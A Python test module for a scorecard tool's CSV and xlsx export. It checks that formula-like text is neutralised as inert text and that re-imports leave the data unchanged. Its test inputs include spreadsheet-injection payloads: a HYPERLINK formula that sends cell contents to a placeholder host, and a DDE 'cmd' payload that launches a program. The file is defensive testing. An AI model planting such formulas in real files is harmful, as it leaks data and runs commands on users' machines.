"""Exports never hold live formulas, and an untouched export imports back unchanged (CSV and xlsx).

Text that starts like a formula (``=``, ``+``, ``-``, ``@``, a tab, a carriage return) in an
objective title, a KPI name, an actual's note or a task owner is written to the workbook
as a text cell and to CSV neutralised with a quote (OWASP); the importer undoes the quote
exactly, so re-importing the untouched export reports 0 updated and leaves the store as
it was.  The property runs over arbitrary text with those starts, through openpyxl.
"""

from __future__ import annotations

import csv
import shutil
import tempfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from plans import make_plan

from bsc_widgets import Store
from bsc_widgets.io.csv_safe import FORMULA_STARTS, neutralise, restore
from bsc_widgets.io.exports import export_tables, export_workbook
from bsc_widgets.io.files import read_sheet
from bsc_widgets.io.importer import import_file
from bsc_widgets.render.xlsx import text_for_cell, text_from_cell

DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "'", "'=", "''+", "=HYPERLINK(\"http://x.invalid/?leak=\"&A1,\"click\")",
             "=cmd|\" /C calc\"!A0", "=2*21", "_x000D_", "-1+2"]
TEXT = st.tuples(st.sampled_from(["", *DANGEROUS]),
                 # what the store accepts (bsc_widgets.model.text): no control or broken characters but tab and
                 # line breaks
                 st.text(st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff")
                         | st.sampled_from(["\t", "\r", "\n"]), max_size=20),
                 st.sampled_from(["", "\r\n", "_x0041_", "'"])).map("".join)


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    where = tmp_path_factory.mktemp("formulas") / "store"
    plan = make_plan(Store.create(where))
    plan.upsert("initiatives", [{"initiative_id": "I1", "scorecard_id": "org", "objective_id": "F1",
                                 "title": "Launch"}])
    plan.upsert("tasks", [{"task_id": "T1", "scorecard_id": "org", "initiative_id": "I1", "description": "Do",
                           "owner": "Ann", "due": "2026-03-31"}])
    return where


def with_texts(template: Path, folder: Path, texts: list[str]) -> Store:
    """A copy of the template whose objective title, KPI name, task owner and notes hold ``texts``."""
    store = Store.open(shutil.copytree(template, folder / "store"))
    first = texts[0] if texts[0].strip() else "x" + texts[0]
    store.upsert("objectives", [{**store.read("objectives").iloc[0].to_dict(), "title": first}])
    store.upsert("kpis", [{**store.read("kpis").set_index("kpi_id").loc["rev"].to_dict(), "kpi_id": "rev",
                           "name": first}])
    store.upsert("tasks", [{**store.read("tasks").iloc[0].to_dict(), "owner": first}])
    store.upsert("actuals", [{"kpi_id": "rev", "period": f"2026-{i + 1:02d}", "scorecard_id": "org",
                              "value": 1.5 * i, "note": text} for i, text in enumerate(texts)])
    return store


def unchanged_on_reimport(store: Store, path: Path) -> None:
    before, version = store.read("actuals"), store.version("actuals")
    report, result = import_file(store, path)
    assert report.ok, report.as_text()
    assert report.counts() == {"new": 0, "updated": 0, "unchanged": len(before)}, report.as_text()
    assert result is not None and result.version is None and store.version("actuals") == version
    assert store.read("actuals")["note"].tolist() == before["note"].tolist()


@settings(max_examples=15)
@given(texts=st.lists(TEXT, min_size=1, max_size=4))
def test_untouched_exports_hold_no_formulas_and_import_back_unchanged(template: Path, texts: list[str]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        store = with_texts(template, folder, texts)
        title = store.read("objectives").set_index("objective_id").loc["F1", "title"]

        export_tables(store, folder / "csv", "csv")
        for file in (folder / "csv").glob("*.csv"):
            with file.open(encoding="utf-8", newline="") as handle:
                for row in list(csv.reader(handle))[1:]:
                    assert not any(cell[:1] in FORMULA_STARTS and cell[:1] and not _number(cell) for cell in row)
        unchanged_on_reimport(store, folder / "csv" / "actuals.csv")
        sheet = read_sheet(folder / "csv" / "objectives.csv")
        assert title in sheet.cells[sheet.header.index("title")].tolist()

        path = export_workbook(store, folder / "plan.xlsx")
        book = load_workbook(path)
        for ws in book.worksheets:
            for row in ws.iter_rows():
                assert all(cell.data_type != "f" for cell in row), ws.title
        objectives = [[c.value for c in row] for row in book["objectives"].iter_rows()]
        column = objectives[0].index("title")
        assert title in [text_from_cell(row[column]) for row in objectives[1:]]
        unchanged_on_reimport(store, path)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@given(st.text())
def test_neutralising_is_undone_exactly(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert neutralise(text)[:1] not in FORMULA_STARTS or not text
    assert text_from_cell(text_for_cell(text)) == text


def test_a_formula_title_stays_text_in_xlsx_and_csv(template: Path, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://x","click")'
    store = with_texts(template, tmp_path, [formula, "=2*21"])
    path = export_workbook(store, tmp_path / "plan.xlsx")
    cell = next(c for row in load_workbook(path)["objectives"].iter_rows() for c in row if c.value == formula)
    assert cell.data_type == "s"
    export_tables(store, tmp_path / "csv", "csv")
    text = (tmp_path / "csv" / "objectives.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(\"\"http://x\"\",\"\"click\"\")" in text
    assert ",'=2*21," in (tmp_path / "csv" / "actuals.csv").read_text(encoding="utf-8")
    unchanged_on_reimport(store, tmp_path / "csv" / "actuals.csv")
    unchanged_on_reimport(store, path)
    assert store.read("actuals").set_index("period").loc["2026-02", "note"] == "=2*21"
